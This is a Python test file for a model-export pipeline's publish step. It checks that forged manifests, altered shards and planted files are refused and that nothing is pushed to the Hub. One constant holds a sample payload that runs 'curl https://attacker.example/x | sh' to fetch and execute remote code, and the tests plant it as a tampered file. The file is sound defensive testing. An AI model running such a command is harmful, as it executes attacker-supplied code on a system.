"""A forged export manifest is refused by publish, and nothing reaches the Hub.

The manifest (``rlpipe-export.json``) lies under the run's export prefix, where every workload
writes as one identity: a container can rewrite it, and add files beside it, after the export Job
wrote it. Each test forges it as such a container would (an ordinary upload through the storage
client) and runs publish (``rlpipe.publisher.program``) against fake GCS and the Hub double, with
the helpers of ``test_publisher.py``.

What publish checks by itself (the manifest against the objects and the bytes it downloads) refuses
a manifest whose sizes or hashes no longer match, one that lists a file that is not there, and an
object the manifest does not list. A manifest rewritten to list a planted file with its true size
and sha256 agrees with the bucket; only the digest of the manifest recorded when export ended
(``--manifest-sha256``) tells it from the one export wrote.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from rlpipe.core import layout
from rlpipe.local.hub_double import HubDouble
from tests.conftest import Buckets
from tests.publisher.test_publisher import (  # noqa: F401  (hub, client_env: fixtures)
    SOURCE,
    Export,
    _export,
    _last,
    _main,
    _pushed_nothing,
    _runs,
    _subprocess_env,
    client_env,
    hub,
    run_as_the_job,
)

PLANTED = b"import os\nos.system('curl https://attacker.example/x | sh')\n"
Files = list[dict[str, Any]]


def _manifest_blob(buckets: Buckets, export: Export) -> Any:
    return buckets.client.bucket(buckets.artifacts).blob(f"runs/{export.run_id}/hf/{layout.EXPORT_MANIFEST}")


def _recorded(buckets: Buckets, export: Export) -> str:
    """The manifest's sha256 as the control plane would record it when export ended: of its bytes
    as the export Job left them, read before anything forges it."""
    return hashlib.sha256(_manifest_blob(buckets, export).download_as_bytes()).hexdigest()


def _forge(buckets: Buckets, export: Export, change: Callable[[Files], None]) -> None:
    """Rewrite the manifest as a workload would: read it, change its file list, upload it again."""
    blob = _manifest_blob(buckets, export)
    manifest = json.loads(blob.download_as_bytes())
    change(manifest["files"])
    blob.upload_from_string(json.dumps(manifest), content_type="application/json")


def _entry(files: Files, path: str) -> dict[str, Any]:
    (entry,) = [f for f in files if f["path"] == path]
    return entry


def _plant(buckets: Buckets, export: Export, path: str, data: bytes = PLANTED) -> None:
    buckets.client.bucket(buckets.artifacts).blob(f"runs/{export.run_id}/hf/{path}").upload_from_string(data)


def _shard(export: Export) -> str:
    return sorted(p for p in export.files if p.endswith(".safetensors"))[1]


# ---- (1) a workload rewrites the manifest --------------------------------------------------------


def test_a_manifest_whose_hash_no_longer_matches_its_file_is_refused_and_nothing_is_committed(
    hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The manifest says a shard has another sha256 (same size): only the bytes tell, after the
    shard's download and before it is sent."""
    export = _export(buckets, "forgedhash")
    shard, forged = _shard(export), "ab" * 32
    _forge(buckets, export, lambda files: _entry(files, shard).update(sha256=forged))
    code, output = _main(export.argv, tmp_path, capsys)
    assert code == 2, output
    true = hashlib.sha256(export.files[shard]).hexdigest()
    assert _last(output) == (
        f"rlpipe-publish: failed permanent: {shard} has sha256 {true}, export wrote {forged}: "
        "it changed after export; nothing was committed. Export again"
    )
    assert not _runs(hub, export)


def test_a_manifest_whose_size_no_longer_matches_its_file_is_refused_before_anything_is_sent(
    hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """config.json is 24 bytes ('{"model_type": "gemma3"}'); the manifest now says 25."""
    export = _export(buckets, "forgedsize")
    _forge(buckets, export, lambda files: _entry(files, "config.json").update(size=25))
    before = len(hub.paths())
    code, output = _main(export.argv, tmp_path, capsys)
    assert code == 2, output
    assert "config.json is 24 bytes, export wrote 25" in _last(output)
    assert "is not what export wrote" in _last(output)
    assert _pushed_nothing(hub, export, before)


def test_a_manifest_naming_a_file_that_is_not_there_is_refused_naming_it(
    hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = _export(buckets, "forgedname")
    extra = {"path": "extra/run.py", "size": len(PLANTED), "sha256": hashlib.sha256(PLANTED).hexdigest()}
    _forge(buckets, export, lambda files: files.append(extra))
    before = len(hub.paths())
    code, output = _main(export.argv, tmp_path, capsys)
    assert code == 2 and "extra/run.py is gone" in _last(output), output
    assert _pushed_nothing(hub, export, before)


def test_a_manifest_rewritten_to_ship_a_planted_file_is_refused_by_the_recorded_digest(
    hub: HubDouble, buckets: Buckets, tmp_path: Path
) -> None:
    """A file planted beside the export and the manifest rewritten to list it with its true size
    and sha256: the bucket and the manifest agree, so only the manifest's digest recorded when
    export ended refuses it. Run as the Job runs it (the shipped ``python -c`` text)."""
    export = _export(buckets, "forgedplant")
    recorded = _recorded(buckets, export)
    _plant(buckets, export, "extra/run.py")
    extra = {"path": "extra/run.py", "size": len(PLANTED), "sha256": hashlib.sha256(PLANTED).hexdigest()}
    _forge(buckets, export, lambda files: files.append(extra))
    forged = _recorded(buckets, export)
    before = len(hub.paths())
    done = run_as_the_job(hub, buckets, tmp_path, export, "--manifest-sha256", recorded)
    assert done.returncode == 2, done.stdout + done.stderr
    manifest = f"gs://{buckets.artifacts}/runs/{export.run_id}/hf/{layout.EXPORT_MANIFEST}"
    assert _last(done.stdout) == (
        f"rlpipe-publish: failed permanent: the export manifest {manifest} has sha256 {forged}, the one "
        f"export wrote has {recorded}: it was rewritten after export; nothing was pushed. "
        "Find out who wrote it and export again"
    )
    assert _pushed_nothing(hub, export, before)


def test_the_recorded_digest_lets_the_export_as_written_through(
    hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = _export(buckets, "digestok")
    code, output = _main([*export.argv, "--manifest-sha256", _recorded(buckets, export)], tmp_path, capsys)
    assert code == 0, output
    assert _last(output).startswith("rlpipe-publish: done published: commit ")
    assert len(_runs(hub, export)) == 1


@pytest.mark.parametrize("digest", ["AB" * 32, "ab" * 31, "not-a-digest"])
def test_a_recorded_digest_that_is_not_one_is_a_bad_argument(
    digest: str, hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = _export(buckets, "digestbad", shards=1)
    before = len(hub.paths())
    code, output = _main([*export.argv, "--manifest-sha256", digest], tmp_path, capsys)
    assert code == 2 and "bad arguments: --manifest-sha256" in _last(output), output
    assert _pushed_nothing(hub, export, before)


# ---- (2) a file added to the export after the manifest was written --------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "extra/run.py",
        "model-00004-of-00003.safetensors",  # looks like one more shard
        ".gitattributes",  # would change how the Hub stores the files
        "README.md",  # the export's own card: publish replaces only a listed one
    ],
)
def test_a_file_added_after_the_manifest_was_written_is_refused_naming_it(
    path: str, hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = _export(buckets, "added", shards=1)
    _plant(buckets, export, path)
    before = len(hub.paths())
    code, output = _main(export.argv, tmp_path, capsys)
    assert code == 2, output
    last = _last(output)
    assert last.startswith("rlpipe-publish: failed permanent: 1 object(s) under "), last
    assert f"gs://{buckets.artifacts}/runs/{export.run_id}/hf/{path}" in last
    assert "not in the export manifest" in last
    assert _pushed_nothing(hub, export, before)


def test_a_file_added_with_the_manifest_rewritten_to_list_it_is_refused_by_the_recorded_digest(
    hub: HubDouble, buckets: Buckets, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A shard replaced after the manifest, and the manifest rewritten with its new sha256 (same
    size): the bytes and the manifest agree; the recorded digest does not."""
    export = _export(buckets, "addedlisted")
    recorded = _recorded(buckets, export)
    shard = _shard(export)
    poisoned = bytes(len(export.files[shard]))  # zeros, the same size
    _plant(buckets, export, shard, poisoned)
    digest = hashlib.sha256(poisoned).hexdigest()
    _forge(buckets, export, lambda files: _entry(files, shard).update(sha256=digest))
    before = len(hub.paths())
    code, output = _main([*export.argv, "--manifest-sha256", recorded], tmp_path, capsys)
    assert code == 2, output
    assert "it was rewritten after export; nothing was pushed" in _last(output)
    assert _pushed_nothing(hub, export, before)
